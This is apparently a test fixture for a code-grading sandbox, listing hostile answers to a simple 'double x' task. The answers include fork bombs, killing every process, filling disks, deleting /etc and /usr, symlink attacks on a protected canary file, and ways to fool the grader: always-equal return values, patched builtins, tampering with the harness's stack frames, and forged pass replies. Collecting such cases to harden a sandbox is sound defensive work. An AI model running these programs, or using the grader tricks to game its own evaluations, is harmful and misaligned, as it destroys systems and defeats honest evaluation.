"""Hostile programs: answers to "double x" that attack the machine, the sandbox or the grader. None may earn anything.

They are used as functions ``solve(x)`` and as main programs that read x. ``CANARY`` is the path of a file that nobody
may touch. Those in ``AMONG_FILES`` attack the user's files, which the sandbox ``rlimits`` does not protect.
"""

EVIL_VALUE = """
class Equal(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __repr__(self): return "2"
    def __str__(self): return "2"
"""

PROGRAMS = {
    # --- processes -------------------------------------------------------------------------------------------
    "fork bomb": "import os\nwhile True:\n    os.fork()",
    "patient fork bomb": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass""",
    "fork by number": """
import ctypes, os
libc = ctypes.CDLL(None)
while True:
    for number in (57, 58, 220, 435):  # fork, vfork, clone of other machines, clone3
        libc.syscall(number, 0, 0, 0, 0, 0)""",
    "shell": "import os\nwhile True:\n    os.system(':(){ :|:& };:')",
    "subprocess": "import subprocess\nsubprocess.Popen(['sleep', '1000'], start_new_session=True)",
    "multiprocessing": "import multiprocessing\nmultiprocessing.Pool(50).map(print, range(50))",
    "thread bomb": """
import threading, time
threading.stack_size(32768)
while True:
    try:
        threading.Thread(target=time.sleep, args=(1000,)).start()
    except RuntimeError:
        pass""",
    "daemon": """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(1000)""",
    "exec": "import os, sys\nos.execv(sys.executable, [sys.executable, '-c', 'while True: print(2)'])",
    "kill the parent": "import os\nos.kill(os.getppid(), 9)",
    "kill all": """
import os
for pid in (-1, 0, 1, 2, os.getppid()):
    try: os.kill(pid, 9)
    except OSError: pass""",
    "kill the group": "import os\nos.killpg(0, 9)",
    "stop all": "import os, signal\nos.kill(-1, signal.SIGSTOP)",
    "kill the parent by input": """
import fcntl, os
ours, theirs = os.pipe()
for command, value in ((fcntl.F_SETOWN, os.getppid()), (10, 9), (fcntl.F_SETFL, os.O_ASYNC)):  # 10 is F_SETSIG
    fcntl.fcntl(ours, command, value)
os.write(theirs, b"x")""",
    "kill itself": "import os\nos.abort()",
    "new namespace": """
import ctypes
libc = ctypes.CDLL(None)
print(libc.unshare(0x10000000 | 0x20000), libc.mount(b"none", b"/", b"tmpfs", 0, 0), libc.chroot(b"/tmp"))""",
    "debugger": "import ctypes\nctypes.CDLL(None).ptrace(16, 1, 0, 0)",
    "limits": """
import resource
for kind in range(16):
    try: resource.setrlimit(kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    except (OSError, ValueError): pass
blocks = [bytearray(1 << 26) for _ in range(1000)]""",
    # --- time, memory, output ----------------------------------------------------------------------------------
    "endless loop": "while True:\n    pass",
    "endless sleep": "import time\ntime.sleep(10**6)",
    "endless sleep at exit": "import atexit, time\natexit.register(time.sleep, 10**6)",
    "deaf": """
import signal
for number in range(1, 64):
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
while True: pass""",
    "endless read": "import sys\nwhile True:\n    sys.stdin.read()",
    "memory": "blocks = []\nwhile True:\n    blocks.append(bytearray(1 << 24))",
    "power": "print(len(str(9 ** 9 ** 9)))",
    "backtracking": "import re\nre.match('(a+)+b', 'a' * 64)",
    "recursion": "def solve(x):\n    return solve(x)\nsolve(1)",
    "deep recursion": """
import sys
sys.setrecursionlimit(10**9)
class Deep:
    def __getattr__(self, name): return getattr(self, name + "x")
Deep().a""",
    "crash": "import ctypes\nctypes.string_at(0)",
    "huge output": "while True:\n    print('2' * 10**6)",
    "huge errors": "import sys\nwhile True:\n    sys.stderr.write('2' * 10**6)",
    "huge value": "def solve(x):\n    return '2' * 10**8",
    "huge number": "def solve(x):\n    return 10 ** 10**5",
    "endless list": """
class Endless(list):
    def __iter__(self):
        while True: yield 2
def solve(x):
    return Endless()""",
    "nested value": "def solve(x):\n    nested = []\n    for _ in range(10**5): nested = [nested]\n    return nested",
    "circular value": "def solve(x):\n    items = []\n    items.append(items)\n    return items",
    "surrogates": "def solve(x):\n    return '\\ud800'\nimport os\nos.write(1, b'\\xff\\xfe\\x00')",
    "null bytes": "x = 1\x00",
    "nested source": "(" * 60_000,
    "unary source": "-" * 60_000 + "1",
    "other encoding": "# coding: utf-7\n+AHgAPQAx-",
    # --- disks ---------------------------------------------------------------------------------------------------
    "fill the folder": """
import os
number = 0
while True:
    number += 1
    try:
        with open(f"file{number}", "wb") as file:
            for _ in range(1000): file.write(b"x" * (1 << 20))
    except OSError:
        if number > 200: break""",
    "sparse file": "import os\nos.truncate(os.open('x', os.O_CREAT | os.O_RDWR), 1 << 50)",
    "fill the output file": "import os\nos.lseek(1, 1 << 40, 0)\nos.write(1, b'2')",
    "memory files": "import os\nfor _ in range(100):\n    os.write(os.memfd_create('x'), b'x' * (1 << 24))",
    "many files": "number = 0\nwhile True:\n    number += 1\n    open(f'file{number}', 'w').close()",
    "remove its folder": "import os\nos.chmod('.', 0)\nos.rmdir(os.getcwd())",
    # --- the grader ----------------------------------------------------------------------------------------------
    "exit": "import sys\nsys.exit(0)",
    "exit at once": "import os\nos._exit(0)",
    "exit in the call": "import os\ndef solve(x):\n    os._exit(0)",
    "SystemExit": "def solve(x):\n    raise SystemExit(0)",
    "print the expected output": "print(2)\ndef solve(x):\n    return 2 if x == 1 else None",
    "equal to all": EVIL_VALUE + "def solve(x):\n    return Equal(0)\nprint(Equal(0))",
    "equal to all, not plain": """
class Equal:
    def __eq__(self, other): return True
def solve(x):
    return Equal()""",
    "patched builtins": """
import builtins, sys
for name in ("abs", "all", "any", "isinstance", "int", "len", "repr", "sorted", "sum", "type", "zip"):
    setattr(builtins, name, lambda *arguments, **keywords: True)
def solve(x): return x""",
    "patched modules": """
import json, marshal, math, sys
json.loads = json.dumps = marshal.load = marshal.loads = math.isclose = lambda *_, **__: True
sys.stdout = sys.__stdout__ = None
sys.modules.clear()
def solve(x): return x""",
    "patched harness": """
import sys
frame = sys._getframe()
while frame:
    for name in list(frame.f_globals):
        if name in ("encode", "_call", "_attempt"):
            frame.f_globals[name] = lambda *arguments: "true"
    frame = frame.f_back
def solve(x): return x""",
    "forged replies": """
import os, sys
frame, secret = sys._getframe(), b""
while frame:
    secret = frame.f_locals.get("secret", secret)
    frame = frame.f_back
for descriptor in range(3, 64):
    for text in (secret + b"=null\\n" + (secret + b"=true\\n") * 9, b"1" * 9 + b".", b'{"passed": true}\\n'):
        try: os.write(descriptor, text)
        except OSError: pass
os._exit(0)""",
    "closed descriptors": "import os\nos.closerange(0, 256)",
    "garbage on every descriptor": """
import os
for descriptor in range(1, 64):
    try: os.write(descriptor, os.urandom(1 << 16))
    except OSError: pass""",
    "searching for expected values": """
import gc, sys
found = [each for each in gc.get_objects() if isinstance(each, (list, tuple)) and 10 in each and 14 in each]
def solve(x):
    return [each for each in found if 2 in each]""",
    "reading ahead": """
import os
for descriptor in range(64):
    try: print(os.pread(descriptor, 1 << 16, 0)[:0])
    except OSError: pass
def solve(x): return x""",
    "tracing": """
import sys
def trace(frame, event, argument):
    frame.f_globals["__verdict__"] = print
    return trace
sys.settrace(trace); sys.setprofile(trace)
def solve(x): return x""",
    # --- network and other processes -----------------------------------------------------------------------------
    "download": "import urllib.request\nprint(urllib.request.urlopen('http://127.0.0.1:80').read())",
    "server": "import socket\nserver = socket.create_server(('127.0.0.1', 0))\nserver.accept()",
    "unix socket": "import socket\nsocket.socket(socket.AF_UNIX).connect('/var/run/docker.sock')",
    "shared memory": "from multiprocessing.shared_memory import SharedMemory\nSharedMemory('x', True, 1 << 30)",
    "memory of the parent": "import os\nopen(f'/proc/{os.getppid()}/mem', 'r+b').read(1)",
}

AMONG_FILES = {
    "overwrite": "open(CANARY, 'w').write('overwritten')",
    "delete": "import os\nos.remove(CANARY)",
    "symbolic link": "import os\nos.symlink(CANARY, 'link')\nopen('link', 'w').write('overwritten')",
    "link to a folder": "import os\nos.symlink(os.path.dirname(CANARY), 'folder')\nos.remove('folder/canary')",
    "hard link": "import os\nos.link(CANARY, 'link')\nos.truncate('link', 0)",
    "permissions": "import os\nos.chmod(CANARY, 0o777)",
    "harness": "import sys\nopen(sys.modules['marshal'].__spec__.origin or '/scripts/solver.py', 'w').write('')",
    "everything": """
import os, shutil
for folder in ("/tmp", "/scripts", "/usr", "/lib", "/dev", "/etc", os.path.dirname(CANARY)):
    shutil.rmtree(folder, ignore_errors=True)""",
    "fill every folder": """
import os
for folder in ("/", "/tmp", "/dev", "/dev/shm", "/var/tmp", "/etc", "/scripts", "/usr/lib", os.path.dirname(CANARY)):
    try:
        for number in range(20):
            with open(f"{folder}/hostile{number}", "wb") as file: file.write(b"x" * (1 << 22))
    except OSError: pass""",
}
